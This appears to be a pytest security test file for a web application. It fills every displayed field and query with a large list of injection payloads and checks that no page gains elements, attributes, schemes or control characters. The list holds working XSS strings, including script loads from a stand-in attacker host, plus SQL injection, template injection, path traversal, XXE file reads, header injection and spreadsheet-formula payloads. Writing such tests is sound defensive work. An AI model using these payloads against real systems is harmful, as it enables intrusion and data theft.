"""Report text and what is typed are hostile: no page gains an element, an attribute, a scheme or a sign from them.

Each injection is put into every field that reaches a page, and every page of the application is made. Its elements, attributes and
schemes are compared with those of the same pages made of harmless words (OWASP, Cross Site Scripting Prevention Cheat Sheet; XSS
Filter Evasion Cheat Sheet).
"""

from __future__ import annotations

import re
import unicodedata
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any, NamedTuple
from urllib.parse import quote, urlsplit

import lxml.html
import pytest
from fastapi.routing import iter_route_contexts

from accede.errors import AccountRefused
from accede.model import Act, ActorMerge, Passage, Report, Ruling, Speaker, make_claim
from accede.record import Record
from accede.web import reviewing
from accede.web.people.accounts import checked
from tests.web.made import PATIENCE
from tests.web.people_samples import csrf, served

PRODUCT = "60481729"  # 7777 * 7777
INJECTIONS = (
    "<script>alert(1)</script>", "<zqzq>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "</script><script>zqzq()</script>", "<script\x00>zqzq()</script>",
    "<svg onload=zqzq()>", "<svg/onload=zqzq()>", "<svg><script>zqzq()</script></svg>", "</svg><svg onload=zqzq()>", "</text></svg><script>zqzq()</script>",
    "<svg><animate onbegin=zqzq() attributeName=x dur=1s>", "<svg><a xlink:href='javascript:zqzq()'><text>x</text></a></svg>",
    "<img src=x onerror=zqzq()>", "<img src=x:alert(alt) onerror=eval(src) alt=zqzq>", "<img src=`x`onerror=zqzq()>", "<IMG \"\"\"><SCRIPT>zqzq()</SCRIPT>\">",
    "\"><script>zqzq()</script>", "'><img src=x onerror=zqzq()>", "\" onmouseover=\"zqzq()", "' onfocus='zqzq()' autofocus='", "\" style=\"background:url(//evil.example)",
    "x\" zqzq=\"1", "` zqzq=1 `", "\n\"\n onclick\n=\nzqzq()\n", "x onmouseover=zqzq() y",
    "javascript:zqzq()", "JaVaScRiPt:zqzq()", "java\tscript:zqzq()", "java\nscript:zqzq()", " \x01javascript:zqzq()", "javascript://evil.example/%0azqzq()",
    "data:text/html,<script>zqzq()</script>", "data:text/html;base64,PHNjcmlwdD56cXpxKCk8L3NjcmlwdD4=", "vbscript:zqzq", "file:///etc/passwd", "//evil.example/zqzq",
    "http://evil.example/\"onmouseover=\"zqzq()", "https://evil.example/<script>zqzq()</script>",
    "</title><script>zqzq()</script>", "</textarea><script>zqzq()</script>", "</style><script>zqzq()</script>", "<!--<script>zqzq()</script>-->", "--><script>zqzq()</script>",
    "]]><script>zqzq()</script>", "<![CDATA[<script>zqzq()</script>]]>", "<?xml version='1.0'?><zqzq/>", "<!DOCTYPE zqzq [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "<iframe srcdoc='<script>zqzq()</script>'></iframe>", "<iframe src=javascript:zqzq()>", "<object data=//evil.example>", "<embed src=//evil.example>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><input name=csrf><button>zqzq", "<input autofocus onfocus=zqzq()>", "<details open ontoggle=zqzq()>", "<math><mtext></mtext><zqzq></math>",
    "<style>@import '//evil.example'</style>", "<div hx-get=//evil.example hx-trigger=load>", "<template><script>zqzq()</script></template>", "<noscript><p title='</noscript><img src=x onerror=zqzq()>'>",
    "&lt;script&gt;zqzq()&lt;/script&gt;", "&#60;script&#62;zqzq()", "&quot; onclick=zqzq()", "\\u003cscript\\u003e", "%3Cscript%3Ezqzq()%3C/script%3E", "+ADw-script+AD4-", "\uff1cscript\uff1ezqzq()",
    "{{ 7777 * 7777 }}", "{% if 7777 * 7777 %}zqzq{% endif %}", "${7777*7777}", "#{7777*7777}", "<%= 7777*7777 %>", "{{ request.app.state.door.key }}", "{{ ''.__class__.__mro__ }}", "%(name)s %s {0} {name}",
    "\u202egnp.exe\u202c", "\u2066zqzq\u2069\u200f", "\u200bzero\u200dwidth\ufeff", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x9b31m", "null\x00byte", "bell\x07\x08\x7f", "\u2028line\u2029", "\ue000csrf\ue000",
    "'; DROP TABLE entry; --", "' OR '1'='1", "\" UNION SELECT 1,2,3 --", "1; ATTACH DATABASE 'x' AS y", "NEAR(a b, \"", "a* OR (b AND", "%_%",
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "/etc/passwd\x00.html", "file\r\nSet-Cookie: zqzq=1", "x\r\n\r\n<script>zqzq()</script>",
    "=HYPERLINK(\"http://evil.example\")", "[x](javascript:zqzq())", "![x](//evil.example)", "A" * 10_000, "<b>" * 2_000, "\"" * 2_000, "a\u0301" * 1_000, "\u0d4d\U0001f469\u200d\U0001f469" * 500,
)  # fmt: skip
GROUPS = [INJECTIONS[at : at + 20] for at in range(0, len(INJECTIONS), 20)]
HARMLESS = ("harmless words", "https://news.example/harmless", "two\nlines")
LINKS = ("href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcset", "background", "hx-get", "hx-post")


class Held(NamedTuple):
    """A record, and the ids of what it holds by the parameter of a path that takes them."""

    location: str
    ids: dict[str, tuple[str, ...]]


def record_of(path: Path, injections: Sequence[str]) -> Held:
    """A record with each injection in every field that a page may show."""
    nato: dict[str, Any] = {"of": ("FIN", "SWE"), "to": ("nato",)}
    reports, acts, claims = [], [], []
    with Record.open(path) as record:
        for n, words in enumerate(injections):
            text = f"{words} - Finland and Sweden applied to join NATO.\n\nAnna {words} said so: {words}. Turkey will not say yes."
            whole = Passage(0, len(text))
            speaker = Speaker(name=words, office=words, for_="SWE")
            report = Report(
                name=f"{n} {words}", text=text, published=f"2022-06-{n + 1:02}", outlet=words, title=words, url=words, dateline=words, byline=(words,),
                contributors=(words,), notes=(words,), copyright=words, credits=(words,), published_inferred_from=words, updated="2022-06-21",
            )  # fmt: skip
            read = [
                make_claim(report, "talks", (whole,), parties=("FIN", "SWE", "TUR"), time="2022-05-20", place=words, modality="happened", groups=(words,)),
                make_claim(report, "statement", (whole,), by=("SWE",), speaker=speaker, **nato),
                make_claim(report, "objection", (whole,), by=("TUR",), speaker=speaker, modality="happened", **nato),
                make_claim(report, "demand", (whole,), by=("TUR",), speaker=speaker, modality="demanded", reasons=(words,), **nato),
                make_claim(report, "ratification", (whole,), by=("CAN",), time="2022-06-01", votes=words, stage="parliament_approved", modality="happened", **nato),
                make_claim(report, "fixture", (whole,), parties=("FIN", "TUR"), time="2022-08", place=words, modality="planned", speaker=speaker),
            ]  # fmt: skip
            if n == 0:
                read.append(make_claim(report, "application", (whole,), by=("FIN", "SWE"), to=("nato",), time="2022-05-18", modality="happened"))
            record.add_reading(report, read, words if words.isprintable() and len(words) <= 200 else "table 1")
            act = Act(action="parliament_approved", actor="DEU", date=f"2022-07-{n + 1:02}", source=words, note=words, votes=words, **nato)
            record.add_act(act)
            record.add_ruling(Ruling(action="accept", by=words, when="2022-07-09", why=words, claims=(read[1].id,)))
            record.add_ruling(ActorMerge(name=words, into=f"{words}x", by=words, when="2022-07-09", why=words))
            reports.append(report.id)
            acts.append(act.id)
            claims.append(read[0].id)
    return Held(str(path), {"process": ("fin-swe-nato",), "evidence": tuple(reports), "act": tuple(acts), "claim": tuple(claims[:3]), "actor": ("FIN", "TUR", *injections[:4])})


class Seen:
    """What pages are made of, each with the first address at which it was: elements with their attributes, where links lead, scripts."""

    def __init__(self) -> None:
        self.parts: dict[tuple[str, ...], str] = {}

    def look_at(self, answer: Any, where: str, injections: Sequence[str]) -> None:
        """Take in an answer; no sign is in it that steers an eye or a terminal."""
        where = where[:300]
        assert answer.status_code < 500, where
        assert "zqzq" not in answer.headers.get("Set-Cookie", ""), where
        kind = answer.headers.get("Content-Type", "")
        assert not answer.content or answer.headers["X-Content-Type-Options"] == "nosniff" and ("charset" in kind or "json" in kind), where
        if "html" in kind and answer.text:
            unseen = {sign for words in injections for sign in words if unicodedata.category(sign) in ("Cc", "Cf", "Co", "Zl", "Zp")} - set("\n\t\r")
            assert not unseen & set(answer.text), where
            assert PRODUCT not in answer.text, where
            for part in parts_of(answer.text):
                self.parts.setdefault(part, where)

    def beyond(self, other: Seen) -> dict[tuple[str, ...], str]:
        # A link to the next of a list is our own, and the harmless list has one item.
        return {part: where for part, where in self.parts.items() if part not in other.parts and part != ("a", "rel")}


def pages_of(client: Any) -> Iterator[tuple[str, tuple[str, ...]]]:
    """The path of every page, and the parameters of its query."""
    for route in iter_route_contexts(client.app.routes):
        path = route.path or ""
        if "GET" in (route.methods or ()) and not path.endswith("openapi.json"):
            names = {one.alias for one in getattr(getattr(route, "dependant", None), "query_params", ())}
            yield path, tuple(sorted(names | {"q", "query", "item", "claim", "next", "zqzq"}))


def told(held: Held, injections: Sequence[str]) -> Seen:
    """Every page of the record, for each id that its path takes."""
    seen, client = Seen(), served(held.location)
    for path, _ in pages_of(client):
        if path.startswith("/api/") and "{" in path:
            continue
        kind = next((one for one in held.ids if f"/{one}/" in path), "")
        for id in held.ids[kind] if kind else ("",):
            address = re.sub(r"\{[^}]*\}", quote(id[:1500], safe=""), path)
            seen.look_at(client.get(address), address, injections)
    return seen


def typed(held: Held, injections: Sequence[str], monkeypatch: pytest.MonkeyPatch) -> Seen:
    """Every page with each injection typed into its path, its query and its form, by a user who has it as a name."""
    seen, client = Seen(), served(held.location)
    turn = [quote(words[:1500], safe="") for words in injections]
    for path, names in pages_of(client):
        asked = [name for name in names if name not in ("valid", "known")]
        for at in range(0, len(turn), 1 if path == "/search" else len(asked)):
            monkeypatch.setattr("accede.web.people.guarding.getpass.getuser", lambda at=at: injections[at])
            query = "&".join(f"{name}={turn[(at + n) % len(turn)]}" for n, name in enumerate(asked))
            address = re.sub(r"\{[^}]*\}", turn[at], path) + f"?{query[:50_000]}"
            seen.look_at(client.get(address), address, injections)
    claim = held.ids["claim"][0]
    token = csrf(client, "/accounts")
    for at, given in enumerate(turn):
        for address in (f"/?known={given}", f"/accounts?{given}={given}", f"/evidence/{given}"):
            seen.look_at(client.get(address), address, injections)
        short = injections[at][:3000]
        form = {"csrf": token, "action": "correct", "ids": claim, "claim": claim, "at.claim": claim, "why": short, "with": short, "into": short, "set.place": short, "set.time": f"x{short}"}
        seen.look_at(client.post("/review/rule", data=form), f"POST /review/rule {short}", injections)
    return seen


def parts_of(text: str) -> Iterator[tuple[str, ...]]:
    """What one page is made of."""
    for element in lxml.html.document_fromstring(text.encode(), parser=lxml.html.HTMLParser(encoding="utf-8", huge_tree=True)).iter():
        tag = element.tag if isinstance(element.tag, str) else "comment"
        yield tag, ""
        for name, value in element.attrib.items():
            yield tag, name
            if name in LINKS:
                parts = urlsplit(re.sub(r"[\x00-\x20]", "", value))
                outside = tag == "a" and parts.scheme in ("https", "http")  # an address of a report that may be followed
                yield tag, name, parts.scheme, "" if outside else parts.netloc
            if name in ("style", "srcdoc"):
                yield tag, name, value
        if tag in ("script", "style"):
            yield tag, "text", element.text or ""


@pytest.fixture(scope="module", autouse=True)
def patience() -> Iterator[None]:
    """A page that says that it is not whole yet has other parts: each is waited for."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(reviewing, "PATIENCE", PATIENCE)
        yield


@pytest.fixture(scope="module")
def harmless(tmp_path_factory: pytest.TempPathFactory) -> tuple[Held, Seen]:
    """A record where nobody means harm, and what its pages are made of."""
    held = record_of(tmp_path_factory.mktemp("harmless") / "harmless.db", HARMLESS)
    with pytest.MonkeyPatch.context() as patch:
        seen, more = told(held, HARMLESS), typed(held, HARMLESS, patch)
    seen.parts |= more.parts
    return held, seen


def test_there_are_many_injections() -> None:
    assert len(set(INJECTIONS)) == len(INJECTIONS) >= 50


def test_the_pages_are_seen(harmless: tuple[Held, Seen]) -> None:
    parts = set(harmless[1].parts)
    assert {("input", "name"), ("a", "href"), ("script", "src")} <= parts
    assert not [part for part in parts if part[1].startswith("on") or "script" in part[2:3]]


def test_an_element_too_many_is_seen(harmless: tuple[Held, Seen]) -> None:
    for text in ("<zqzq>", "<p onclick=x>", "<a href=' java\tscript:x'>", "<script>x</script>", "<img src=//evil.example>", "<link rel=x href='//evil.example'>"):
        assert set(parts_of(f"<html><body>{text}</body></html>")) - set(harmless[1].parts), text


@pytest.mark.parametrize("group", GROUPS, ids=range(len(GROUPS)))
def test_no_page_gains_anything_from_what_a_report_tells(tmp_path: Path, group: Sequence[str], harmless: tuple[Held, Seen]) -> None:
    assert told(record_of(tmp_path / "hostile.db", group), group).beyond(harmless[1]) == {}


@pytest.mark.parametrize("group", GROUPS, ids=range(len(GROUPS)))
def test_no_page_gains_anything_from_what_is_typed(group: Sequence[str], harmless: tuple[Held, Seen], monkeypatch: pytest.MonkeyPatch) -> None:
    assert typed(harmless[0], group, monkeypatch).beyond(harmless[1]) == {}


@pytest.mark.parametrize("words", [one for one in INJECTIONS if re.search(r"[<>\"&{}\x00-\x1f/\\;=%]", one)], ids=repr)
def test_no_account_has_such_a_name(words: str) -> None:
    with pytest.raises(AccountRefused):
        checked(words)
